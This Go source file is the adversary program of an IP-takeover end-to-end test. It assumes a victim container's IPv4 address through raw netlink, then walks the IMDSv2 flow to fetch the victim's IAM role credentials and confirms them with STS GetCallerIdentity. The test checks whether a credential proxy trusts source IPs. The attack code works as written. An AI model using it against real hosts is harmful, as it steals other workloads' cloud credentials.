// Command attacker is the adversary of the IP-takeover end-to-end test. It
// runs in a FROM-scratch container with CAP_NET_ADMIN, puts a victim
// container's IPv4 address on its own eth0 (raw rtnetlink: scratch has no
// `ip`), waits until the test has made the host route replies for that
// address to it (a pinned neighbour entry, modelling an attacker that won
// the ARP race), and then walks the IMDSv2 credential flow and STS
// GetCallerIdentity with every connection's source address set to the
// victim's. A proxy that identifies callers by source IP hands it the
// victim's role; one that identifies them by cgroup does not.
//
// Usage:
//
//	attacker [-go-port 7777] [-go-wait 20s] VICTIM_IP
//
// The go signal is one TCP connection to -go-port on the container's own
// address: deterministic, unlike a sleep, and needs no shared files.
// Environment: STS_ENDPOINT, AWS_REGION, AWS_EC2_METADATA_SERVICE_ENDPOINT
// (optional; default http://169.254.169.254). It prints one JSON line and
// never prints secrets. Exit 0 when GetCallerIdentity succeeded, 1 when
// the flow failed, 2 on bad usage or when the takeover itself failed.
package main

import (
	"bufio"
	"context"
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/aws/aws-sdk-go-v2/service/sts"
	"golang.org/x/sys/unix"
)

// callTimeout bounds every network call so a broken path fails fast.
const callTimeout = 5 * time.Second

// result is the one JSON line printed.
type result struct {
	MAC            string   `json:"mac,omitempty"`
	Victim         string   `json:"victim"`
	Sources        []string `json:"sources,omitempty"` // local addresses of the connections used
	RoleListStatus int      `json:"role_list_status,omitempty"`
	Role           string   `json:"role,omitempty"`
	ARN            string   `json:"arn,omitempty"`
	Error          string   `json:"error,omitempty"`
}

func main() {
	os.Exit(run(context.Background(), os.Args[1:], os.Stdout, os.Stderr))
}

func run(ctx context.Context, args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("attacker", flag.ContinueOnError)
	fs.SetOutput(stderr)
	goPort := fs.Int("go-port", 7777, "TCP port on which one connection means: the host now routes the victim's address here")
	goWait := fs.Duration("go-wait", 20*time.Second, "how long to wait for the go signal")
	if err := fs.Parse(args); err != nil || fs.NArg() != 1 {
		fmt.Fprintln(stderr, "usage: attacker [-go-port N] [-go-wait D] VICTIM_IP")
		return 2
	}
	victim, err := netip.ParseAddr(fs.Arg(0))
	if err != nil || !victim.Is4() {
		fmt.Fprintf(stderr, "attacker: victim %q is not an IPv4 address\n", fs.Arg(0))
		return 2
	}
	enc := json.NewEncoder(stdout)
	res := result{Victim: victim.String()}
	fail := func(code int, err error) int {
		res.Error = err.Error()
		_ = enc.Encode(res)
		return code
	}

	eth, err := net.InterfaceByName("eth0")
	if err != nil {
		return fail(2, fmt.Errorf("find eth0: %w", err))
	}
	res.MAC = eth.HardwareAddr.String()
	// /32: the address becomes local without a second subnet route, so
	// the container's own routing is otherwise unchanged.
	if err := addAddr(eth.Index, victim, 32); err != nil {
		return fail(2, err)
	}
	fmt.Fprintf(stderr, "attacker: %s added to eth0 (mac %s); waiting for the go signal on :%d\n", victim, res.MAC, *goPort)
	if err := waitGo(*goPort, *goWait); err != nil {
		return fail(2, err)
	}

	var mu sync.Mutex
	seen := map[string]bool{}
	dialer := &net.Dialer{Timeout: callTimeout, LocalAddr: &net.TCPAddr{IP: victim.AsSlice()}}
	hc := &http.Client{Timeout: callTimeout, Transport: &http.Transport{
		Proxy: nil, // never a proxy from the environment
		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
			c, err := dialer.DialContext(ctx, "tcp4", addr)
			if err == nil {
				mu.Lock()
				if a := c.LocalAddr().(*net.TCPAddr).IP.String(); !seen[a] {
					seen[a] = true
					res.Sources = append(res.Sources, a)
				}
				mu.Unlock()
			}
			return c, err
		},
	}}

	creds, err := imdsFlow(ctx, hc, &res)
	if err != nil {
		return fail(1, err)
	}
	client := sts.New(sts.Options{
		Region:      envOr("AWS_REGION", "us-east-1"),
		Credentials: credentials.NewStaticCredentialsProvider(creds.AccessKeyID, creds.SecretAccessKey, creds.Token),
		HTTPClient:  hc,
	}, func(o *sts.Options) {
		if ep := os.Getenv("STS_ENDPOINT"); ep != "" {
			o.BaseEndpoint = aws.String(ep)
		}
	})
	cctx, cancel := context.WithTimeout(ctx, callTimeout)
	out, err := client.GetCallerIdentity(cctx, &sts.GetCallerIdentityInput{})
	cancel()
	if err != nil {
		return fail(1, fmt.Errorf("get caller identity: %w", err))
	}
	res.ARN = aws.ToString(out.Arn)
	_ = enc.Encode(res)
	return 0
}

func envOr(k, def string) string {
	if v := os.Getenv(k); v != "" {
		return v
	}
	return def
}

// waitGo accepts one connection on port (all addresses) within d.
func waitGo(port int, d time.Duration) error {
	ln, err := net.Listen("tcp4", ":"+strconv.Itoa(port))
	if err != nil {
		return fmt.Errorf("listen for go signal: %w", err)
	}
	defer ln.Close()
	_ = ln.(*net.TCPListener).SetDeadline(time.Now().Add(d))
	c, err := ln.Accept()
	if err != nil {
		return fmt.Errorf("wait for go signal on :%d: %w", port, err)
	}
	return c.Close()
}

type imdsCreds struct {
	Code            string `json:"Code"`
	AccessKeyID     string `json:"AccessKeyId"`
	SecretAccessKey string `json:"SecretAccessKey"`
	Token           string `json:"Token"`
}

// imdsFlow does what the SDK's ec2rolecreds provider does: token PUT,
// role list GET, credentials GET; by hand so that every connection uses
// hc (the victim's source address) and the role list status is known.
func imdsFlow(ctx context.Context, hc *http.Client, res *result) (imdsCreds, error) {
	base := strings.TrimSuffix(os.Getenv("AWS_EC2_METADATA_SERVICE_ENDPOINT"), "/")
	if base == "" {
		base = "http://169.254.169.254"
	}
	status, body, err := call(ctx, hc, http.MethodPut, base+"/latest/api/token",
		http.Header{"X-Aws-Ec2-Metadata-Token-Ttl-Seconds": {"300"}})
	if err != nil {
		return imdsCreds{}, fmt.Errorf("put token: %w", err)
	}
	if status != http.StatusOK {
		return imdsCreds{}, fmt.Errorf("put token: status %d", status)
	}
	tok := http.Header{"X-Aws-Ec2-Metadata-Token": {strings.TrimSpace(string(body))}}
	const credPath = "/latest/meta-data/iam/security-credentials/"
	status, body, err = call(ctx, hc, http.MethodGet, base+credPath, tok)
	if err != nil {
		return imdsCreds{}, fmt.Errorf("get role list: %w", err)
	}
	res.RoleListStatus = status
	if status != http.StatusOK {
		return imdsCreds{}, fmt.Errorf("get role list: status %d", status)
	}
	sc := bufio.NewScanner(strings.NewReader(string(body)))
	if !sc.Scan() || strings.TrimSpace(sc.Text()) == "" {
		return imdsCreds{}, errors.New("get role list: empty")
	}
	res.Role = strings.TrimSpace(sc.Text())
	status, body, err = call(ctx, hc, http.MethodGet, base+credPath+res.Role, tok)
	if err != nil {
		return imdsCreds{}, fmt.Errorf("get credentials of %s: %w", res.Role, err)
	}
	if status != http.StatusOK {
		return imdsCreds{}, fmt.Errorf("get credentials of %s: status %d", res.Role, status)
	}
	var c imdsCreds
	if err := json.Unmarshal(body, &c); err != nil {
		return imdsCreds{}, fmt.Errorf("decode credentials of %s: %w", res.Role, err)
	}
	if c.Code != "Success" || c.AccessKeyID == "" {
		return imdsCreds{}, fmt.Errorf("credentials of %s: code %q, empty keys %v", res.Role, c.Code, c.AccessKeyID == "")
	}
	return c, nil
}

func call(ctx context.Context, hc *http.Client, method, url string, h http.Header) (int, []byte, error) {
	ctx, cancel := context.WithTimeout(ctx, callTimeout)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, method, url, nil)
	if err != nil {
		return 0, nil, err
	}
	req.Close = true // a fresh connection per request: each is identified anew
	for k, v := range h {
		req.Header[k] = v
	}
	resp, err := hc.Do(req)
	if err != nil {
		return 0, nil, err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 64<<10))
	return resp.StatusCode, body, err
}

// addAddr adds ip/prefix to the interface with index ifindex: one
// RTM_NEWADDR request on a NETLINK_ROUTE socket, then its ack.
func addAddr(ifindex int, ip netip.Addr, prefix int) error {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.NETLINK_ROUTE)
	if err != nil {
		return fmt.Errorf("netlink socket: %w", err)
	}
	defer unix.Close(fd)
	if err := unix.Bind(fd, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return fmt.Errorf("netlink bind: %w", err)
	}
	a := ip.As4()
	body := make([]byte, unix.SizeofIfAddrmsg)
	body[0] = unix.AF_INET
	body[1] = byte(prefix)
	body[2] = 0 // flags
	body[3] = unix.RT_SCOPE_UNIVERSE
	binary.NativeEndian.PutUint32(body[4:8], uint32(ifindex))
	body = append(body, rtattr(unix.IFA_LOCAL, a[:])...)
	body = append(body, rtattr(unix.IFA_ADDRESS, a[:])...)

	msg := make([]byte, unix.SizeofNlMsghdr, unix.SizeofNlMsghdr+len(body))
	binary.NativeEndian.PutUint32(msg[0:4], uint32(unix.SizeofNlMsghdr+len(body)))
	binary.NativeEndian.PutUint16(msg[4:6], unix.RTM_NEWADDR)
	binary.NativeEndian.PutUint16(msg[6:8], unix.NLM_F_REQUEST|unix.NLM_F_ACK|unix.NLM_F_CREATE|unix.NLM_F_EXCL)
	binary.NativeEndian.PutUint32(msg[8:12], 1) // sequence
	msg = append(msg, body...)
	if err := unix.Sendto(fd, msg, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return fmt.Errorf("send RTM_NEWADDR %s/%d: %w", ip, prefix, err)
	}
	buf := make([]byte, 4096)
	n, _, err := unix.Recvfrom(fd, buf, 0)
	if err != nil {
		return fmt.Errorf("read RTM_NEWADDR ack: %w", err)
	}
	if n < unix.SizeofNlMsghdr+4 || binary.NativeEndian.Uint16(buf[4:6]) != unix.NLMSG_ERROR {
		return fmt.Errorf("RTM_NEWADDR %s/%d: unexpected reply of %d bytes", ip, prefix, n)
	}
	if code := int32(binary.NativeEndian.Uint32(buf[16:20])); code != 0 {
		errno := unix.Errno(-code)
		if errors.Is(errno, unix.EEXIST) {
			return nil // already there: the state we want
		}
		return fmt.Errorf("add address %s/%d to interface %d: %w", ip, prefix, ifindex, errno)
	}
	return nil
}

func rtattr(typ uint16, data []byte) []byte {
	l := unix.SizeofRtAttr + len(data)
	b := make([]byte, (l+unix.RTA_ALIGNTO-1)&^(unix.RTA_ALIGNTO-1))
	binary.NativeEndian.PutUint16(b[0:2], uint16(l))
	binary.NativeEndian.PutUint16(b[2:4], typ)
	copy(b[unix.SizeofRtAttr:], data)
	return b
}
